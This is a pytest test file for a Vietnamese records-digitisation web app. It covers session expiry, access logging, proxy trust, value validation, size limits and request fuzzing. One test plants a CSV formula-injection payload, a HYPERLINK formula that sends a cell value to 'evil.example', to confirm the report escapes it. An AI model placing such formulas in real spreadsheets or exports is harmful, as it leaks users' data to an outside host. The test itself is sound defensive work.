"""The clerks' workspace as a new clerk and as an attacker meet it (issue 26): sessions that
end, every view of a citizen's data logged once, nothing a clerk can turn against the office,
figures counted from the records, values checked as a person would."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from digitizer.config import Settings, WebSettings
from digitizer.model import Field
from digitizer.storage import SqliteIndex
from digitizer.web import create_app
from digitizer.web.auth import hash_password
from digitizer.web.corrections import normalised, problems

from .s3server import free_port, wait_port
from .test_web import CHROMIUM, CHROMIUM_ARGS, copy_of, site  # noqa: F401 (the fixture)


def basic(user: str, password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


class Server:
    """`digitizer serve` over a data folder, restartable with other settings."""

    def __init__(self, data: Path, **env: str) -> None:
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self.process = subprocess.Popen([sys.executable, "-m", "digitizer", "serve", "--port", str(self.port)],
                                        env={**os.environ, "DIGITIZER_DATA_DIR": str(data), **env},
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        wait_port(self.port)

    def stop(self) -> None:
        self.process.terminate()               # SIGTERM: the access log's last rows are written
        self.process.wait(timeout=20)


def replay(base: str, cookies: list[dict], path: str = "/api/search?q=a") -> int:
    """The status a stolen copy of the browser's cookie gets."""
    jar = {c["name"]: c["value"] for c in cookies}
    return httpx.get(base + path, cookies=jar, timeout=10).status_code


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is installed by make deps")
def test_real_browser_a_session_ends_at_logout_password_change_and_the_admins_word(site, tmp_path):  # noqa: F811
    from playwright.sync_api import sync_playwright

    settings, _, _ = site
    data = copy_of(settings, tmp_path)
    users = f"thu:{hash_password('mật khẩu')},quan:admin:{hash_password('quản trị')}"
    server = Server(data, DIGITIZER_WEB_USERS=users)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)

            def log_in(user: str, password: str):  # noqa: ANN202
                context = browser.new_context()
                page = context.new_page()
                page.goto(f"{server.base}/")                     # sent to the login form
                page.fill("#username", user)
                page.fill("#password", password)
                page.click("button[type=submit]")
                page.wait_for_selector("form.logout")
                return context, page

            clerk, page = log_in("thu", "mật khẩu")
            cookies = clerk.cookies()
            assert replay(server.base, cookies) == 200
            page.click("form.logout button")                    # logout
            page.wait_for_url("**/login**")
            assert replay(server.base, cookies) == 401           # the same cookie, replayed: ended

            clerk, page = log_in("thu", "mật khẩu")
            cookies = clerk.cookies()
            server.stop()                                       # the password is changed; the server restarts
            users = f"thu:{hash_password('mật khẩu mới')},quan:admin:{hash_password('quản trị')}"
            server = Server(data, DIGITIZER_WEB_USERS=users, DIGITIZER_WEB_IDLE_MINUTES="0.05")
            assert replay(server.base, cookies) == 401
            page.goto(f"{server.base}/")
            assert "/login" in page.url

            clerk, page = log_in("thu", "mật khẩu mới")
            admin, admin_page = log_in("quan", "quản trị")
            clerk_cookies = clerk.cookies()
            assert replay(server.base, clerk_cookies) == 200
            admin_page.goto(f"{server.base}/admin/access")
            assert admin_page.locator("#sessions tr").count() == 3      # a header and two sessions
            admin_page.click("#end-sessions")                         # "end all sessions"
            admin_page.wait_for_url("**/login**")                     # the admin's own too
            assert replay(server.base, clerk_cookies) == 401

            clerk, page = log_in("thu", "mật khẩu mới")
            cookies = clerk.cookies()
            assert replay(server.base, cookies) == 200
            time.sleep(4)                                             # idle longer than 3 s
            assert replay(server.base, cookies) == 401
            browser.close()
    finally:
        server.stop()


def test_the_proxys_address_is_believed_only_when_configured(site, tmp_path):  # noqa: F811
    settings, _, records = site
    data = copy_of(settings, tmp_path)
    doc = records[0].id
    for trusted, expected in (("", "127.0.0.1"), ("127.0.0.1", "203.0.113.9")):
        server = Server(data, DIGITIZER_WEB_TRUSTED_PROXIES=trusted)
        try:
            assert httpx.get(f"{server.base}/doc/{doc}", headers={"X-Forwarded-For": "203.0.113.9"}).status_code == 200
            log = httpx.get(f"{server.base}/api/access-log?doc={doc}").json()["entries"]
        finally:
            server.stop()
        assert log[0]["address"] == expected, (trusted, log[0])


def test_the_access_log_is_written_off_the_request_and_kept_at_shutdown(site, tmp_path):  # noqa: F811
    settings, _, records = site
    data = copy_of(settings, tmp_path)
    server = Server(data)
    try:
        for _ in range(30):
            assert httpx.get(f"{server.base}/doc/{records[1].id}").status_code == 200
    finally:
        server.stop()                              # straight after the views: nothing may be lost
    import sqlite3
    with sqlite3.connect(data / "ledger.sqlite") as conn:
        count = conn.execute("SELECT count(*) FROM access_log WHERE doc_id = ? AND action LIKE 'GET /doc/%'",
                             (records[1].id,)).fetchone()[0]
    assert count >= 30


def test_the_csv_shows_a_formula_bearing_type_as_text_and_dossiers_count_once(site, tmp_path):  # noqa: F811
    settings, _, records = site
    data = tmp_path / "data"
    own = Settings(data_dir=data)
    index = SqliteIndex(own.index_path)
    base = records[0]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Mở")'
    # Seven documents on one day: five in dossier HS-1 and HS-2 (two types), two loose files.
    layout = [("HS-1", "Quyết định"), ("HS-1", "Đơn"), ("HS-1", evil), ("HS-2", "Quyết định"), ("HS-2", "Đơn"),
              (None, "Đơn"), (None, "Quyết định")]
    for n, (dossier, doc_type) in enumerate(layout):
        record = replace(base, id=f"{n:064x}", doc_type=Field(doc_type, 1.0),
                         source=replace(base.source, dossier=dossier, received_at="2026-11-02T09:00:00+07:00"))
        index.add(record)
    index.close()
    client = TestClient(create_app(own), base_url="http://localhost")
    for period in ("day", "month"):
        table = list(csv.reader(io.StringIO(client.get(f"/report.csv?period={period}").text.lstrip("\ufeff"))))
        header, row = table[0], table[1]
        assert row[header.index("Hồ sơ")] == "2" and row[header.index("Tài liệu")] == "7"
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for line in table for c in line)
        assert "'" + evil in header                  # shown as the text it is
    page = client.get("/report?period=month")
    assert "<h2>Tài liệu số hóa</h2>" in page.text and "<h2>Trang số hóa</h2>" in page.text


def test_values_are_checked_as_a_person_types_them():
    today = time.strftime("%Y-%m-%d")
    typed = {"issue_date": "10/01/1978", "phone": "０９１２ ３４５ ６７８", "id_number": "０３４０９５００１２３４"}
    assert normalised(typed) == {"issue_date": "1978-01-10", "phone": "0912345678", "id_number": "034095001234"}
    for name, value in [("id_number", "0340950012³⁴"), ("id_number", "٠٣٤٠٩٥٠٠١٢٣٤"), ("id_number", "000000000000"),
                        ("id_number", "12345"), ("phone", "9123456789"), ("issue_date", "9999-01-01"),
                        ("birth_date", "2090-05-01"), ("birth_date", "31/02/1990"), ("doc_type", "Giấy gì đó"),
                        ("nope", "x")]:
        assert problems(normalised({name: value})), (name, value)
    assert problems(normalised({"birth_date": "01/01/1990", "issue_date": today, "doc_type": "Khác",
                                "id_number": "034095001234", "phone": "0912345678"})) == []


def test_a_later_edit_by_someone_else_clears_the_check_and_requeues_it(site, tmp_path):  # noqa: F811
    settings, _, records = site
    data = copy_of(settings, tmp_path)
    users = f"thu:{hash_password('a')},lan:{hash_password('b')}"
    client = TestClient(create_app(Settings(data_dir=data, web=WebSettings(users=users))), base_url="http://localhost")
    doc = records[0].id
    url = f"/api/documents/{doc}"
    assert client.patch(url, json={"verified": True}, headers=basic("thu", "a")).status_code == 200
    review = lambda: [d["id"] for d in client.get("/api/review", headers=basic("thu", "a")).json()["documents"]]  # noqa: E731
    assert doc not in review()
    own = client.patch(url, json={"fields": {"place": "Hà Nội"}}, headers=basic("thu", "a")).json()
    assert own["record"]["verified"]                                   # her own later edit keeps her check
    changed = client.patch(url, json={"fields": {"place": "Hải Phòng"}}, headers=basic("lan", "b")).json()
    assert changed["record"]["verified"] is None
    assert doc in review()
    page = client.get(f"/doc/{doc}", headers={**basic("thu", "a"), "Accept": "text/html"}).text
    assert "sửa bởi lan" in page and "Chưa có ai kiểm tra" in page


def test_a_browser_gets_vietnamese_pages_the_api_json_and_sizes_are_capped(site, tmp_path):  # noqa: F811
    settings, _, records = site
    client = TestClient(create_app(settings), base_url="http://localhost", raise_server_exceptions=False)
    html = {"Accept": "text/html"}
    missing = client.get("/doc/" + "f" * 64, headers=html)
    assert missing.status_code == 404 and "text/html" in missing.headers["content-type"]
    assert "Không tìm thấy" in missing.text and "/ No such" not in missing.text
    assert client.get("/api/documents/" + "f" * 64).json()["detail"].startswith("Không có tài liệu này")
    assert "text/html" in client.get("/?page=0", headers=html).headers["content-type"]
    huge = client.patch(f"/api/documents/{records[0].id}", content=b"{" + b" " * (200 * 1024) + b"}",
                        headers={"Content-Type": "application/json"})
    assert huge.status_code == 413
    assert client.get("/api/search", params={"q": "a" * 40_000}).status_code == 414
    assert client.post("/api/failures/" + "9" * 20 + "/retry").status_code == 422       # not a 500
    users = subprocess.run([sys.executable, "-m", "digitizer", "hash-password", "thu:admin", "x"],
                           capture_output=True, text=True)
    assert users.returncode == 2 and "':'" in users.stderr


def test_a_thousand_fuzzed_requests_over_every_route_give_no_server_error(site, tmp_path):  # noqa: F811
    from hypothesis import HealthCheck, given, settings as hsettings, strategies as st

    settings, _, records = site
    data = copy_of(settings, tmp_path)
    client = TestClient(create_app(Settings(data_dir=data)), base_url="http://localhost",
                        raise_server_exceptions=False)
    doc = records[0].id
    routes = [("GET", p) for p in ["/", "/api/search", "/review", "/api/review", "/report", "/report.csv",
                                   "/login", "/failures", "/api/failures", "/admin/access", "/api/access-log",
                                   f"/doc/{doc}", f"/doc/{doc}/pdf", f"/doc/{doc}/original",
                                   f"/doc/{doc}/page/1.png", f"/api/documents/{doc}",
                                   f"/api/documents/{doc}/revisions", "/citizen/034095001234",
                                   "/api/citizens/034095001234", "/dossier/HS-1", "/docs"]]
    routes += [("PATCH", f"/api/documents/{doc}"), ("POST", "/login"), ("POST", "/logout"),
               ("POST", "/api/failures/1/retry"), ("POST", "/admin/sessions/end")]
    text = st.text(max_size=30)
    json_values = st.recursive(st.none() | st.booleans() | st.integers() | text,
                               lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3),
                               max_leaves=8)
    examples = int(os.environ.get("DIGITIZER_FUZZ_EXAMPLES", "1000"))

    @hsettings(max_examples=examples, deadline=None, suppress_health_check=list(HealthCheck))
    @given(route=st.sampled_from(routes), params=st.lists(st.tuples(text, text), max_size=4),
           headers=st.dictionaries(st.sampled_from(["accept", "content-type", "x-csrf-token", "origin",
                                                    "sec-fetch-site", "x-forwarded-for"]),
                                   st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=30),
                                   max_size=3),
           body=st.one_of(st.none(), json_values.map(json.dumps), st.binary(max_size=200)))
    def run(route, params, headers, body):
        method, path = route
        answer = client.request(method, path, params=params, headers=headers,
                                content=body if method != "GET" else None)
        assert answer.status_code < 500, (method, path, params, headers, body, answer.text[:300])

    run()


def test_papers_without_a_number_download_under_names_of_their_own(site):  # noqa: F811
    from digitizer.web.formats import download_name

    _, _, records = site
    base = records[2]
    fields = {k: v for k, v in base.fields.items() if k != "doc_number"}
    one = replace(base, fields={**fields, "person_name": Field("Nguyễn Văn An", 1.0)})
    other = replace(base, fields={**fields, "person_name": Field("Trần Thị Bình", 1.0)})
    assert download_name(one) != download_name(other) and "Nguyễn Văn An" in download_name(one)
